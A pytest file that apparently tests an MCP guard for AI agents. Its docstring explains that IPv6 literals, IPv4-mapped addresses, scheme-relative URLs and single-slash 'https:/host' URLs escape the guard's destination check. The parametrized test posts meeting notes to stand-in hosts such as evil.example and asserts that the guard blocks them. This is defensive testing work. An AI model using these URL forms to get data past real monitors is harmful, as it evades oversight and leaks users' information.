"""Class: exfiltration to a destination the declared intent never named (URL forms the engine misses).

The engine finds web destinations in `url`, but not in forms every HTTP client accepts: IPv6 literals
(`https://[2001:db8::1]/`, IPv4-mapped `[::ffff:1.2.3.4]`), scheme-relative `//host/…`, and
`https:/host/…` (one slash; WHATWG URL parsers, i.e. Node's fetch, read it as https://host/). Such a
call is judged to have no destination at all, and is allowed as "every destination comes from the
request"; the same call with `https://1.2.3.4/` or `https://evil.example/` is denied.
"""

from __future__ import annotations

import pytest

from tests.attacks.client import Attacker, Scripted, text_of, write_config

TOOL = {"name": "http_request", "description": "Make an HTTP request to a URL.",
        "inputSchema": {"type": "object", "properties": {"url": {"type": "string"}, "method": {"type": "string"},
                                                         "data": {"type": "string"}}}}
INTENT = "Email bob@example.com a summary of my meeting notes"


@pytest.mark.parametrize("url", [
    "https://[2001:db8::1]/upload",
    "http://[::ffff:1.2.3.4]:8080/upload",
    "//evil.example/upload",
    "https:/evil.example/upload",
])
def test_intent_url_forms_to_unnamed_hosts_are_not_allowed(tmp_path, url):
    server = Scripted(tmp_path / "spec.json", tools=[TOOL])
    config = write_config(tmp_path / "mcp-guard.toml", {"web": (server.command, 'trust = "tofu"\n')})
    with Attacker(config, "--upstream", "web", "--intent", INTENT) as client:
        client.open()
        client.names()
        answer = client.call("http_request", {"url": url, "method": "POST", "data": "the meeting notes"})
    forwarded = [m for m in server.received("tools/call")]
    assert not forwarded, f"{url} went out under intent {INTENT!r}: {text_of(answer)[:120]}"
